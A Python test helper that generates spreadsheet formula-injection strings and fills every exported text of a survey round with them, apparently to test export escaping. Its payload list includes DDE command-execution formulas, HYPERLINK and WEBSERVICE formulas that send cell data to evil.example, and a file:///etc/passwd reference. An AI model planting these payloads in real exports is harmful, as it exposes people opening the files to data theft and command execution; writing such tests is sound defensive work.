"""Texts that a spreadsheet might compute or follow, and rounds that hold one in every text."""

import itertools
from collections.abc import Iterator
from typing import Any

import msgspec

from dialogs.round import Round
from tests.support.small_rounds import FRAME

_HIDDEN_STARTS = (
    "", " ", "  ", "\t", "\n", "\r", "\ufeff", "\u200b", "\u00a0", "\u2028", "'",
    '"', ";", ",", "\u202e", "\u0301", "\u3000", "\u00ad",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "|", "%", "=-", "+=", "@@", "")
_BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"here")', "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example")', 'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")', "http://evil.example/", "www.evil.example",
    "mailto:a@evil.example", "internal:Sheet1!A1", "external:c:\\x.xlsx", "file:///etc/passwd",
    "[x](javascript:alert(1))", "<a href='x'>y</a>", "{=1+1}", "_x003D_1+1", "R1C1", "1e999",
    "TRUE", "#REF!", "2+5+cmd|'x'!A", "msexcel|'x'!z", "\\=1", "${7*7}", "#x", "пат=1", "ë=1",
    "-- 1", "'=1+1", '"=1+1', "A1", "Sheet1!A1", "1;=2", "1,=2", "1\t=2", "1\n=2", "1\r\n=2",
)  # fmt: skip

PLACES = 3

Values = dict[str, Any]


def payloads(count: int) -> Iterator[str]:
    """Yield this many texts, no two alike."""
    combined = itertools.product(_BODIES, _STARTS, _HIDDEN_STARTS)
    texts = [f"{hidden}{start}{body}" for body, start, hidden in combined]
    for number in range(count):
        text = texts[number % len(texts)]
        yield text if number < len(texts) else f"{text} {number}"


class Filling:
    """Puts the next payload into each text of a round that it makes."""

    def __init__(self, texts: Iterator[str]) -> None:
        self._texts = texts
        self.used: list[str] = []
        """The payloads in the texts that exports show, in English."""

    def round(self, *, questions: int, options: int, broken_down: bool = False) -> Round:
        """Return a round in which every text that an export shows is a payload.

        `broken_down` has groups as well, by the first question; that takes long to protect.

        No round file with control characters is accepted, so this round was never checked.
        """
        self.used = []
        frame = {
            "organiser": {"name": self._next(), "funder": self._next(), "contact": self._plain()},
            "public_label": self._next(),
            "purpose": self._next(),
            "addressee": {**FRAME["addressee"], "body": self._next()},
        }
        values = {
            **FRAME,
            **frame,
            "questions": [self._question(number, options) for number in range(questions)],
            "publication": {"breakdowns": ["q0"] if broken_down else []},
        }
        return msgspec.convert(values, Round)

    def _question(self, number: int, options: int) -> Values:
        kinds = ("pick_one", "pick_many", "ranking", "scale", "free_text")
        kind = kinds[number % len(kinds)]
        question: Values = {"kind": kind, "id": f"q{number}", "text": self._next()}
        if kind == "scale":
            ends = {"low": self._next(used=False), "high": self._next(used=False)}
            return {**question, "points": 5, **ends}
        if kind == "free_text":
            return question
        listed = [{"id": f"o{place}", "label": self._next()} for place in range(options)]
        if kind == "ranking":  # whoever ranks hundreds of options names the first few
            question["places"] = PLACES
        breakdown = {"breakdown": True} if number == 0 else {}
        return {**question, "options": listed, **breakdown}

    def _next(self, *, used: bool = True) -> dict[str, str]:
        """Return a text in both languages; the ends of a scale are only shown inside a label."""
        text = self._plain() if used else next(self._texts)
        return {"en": text, "mk": text}

    def _plain(self) -> str:
        text = next(self._texts)
        self.used.append(text)
        return text
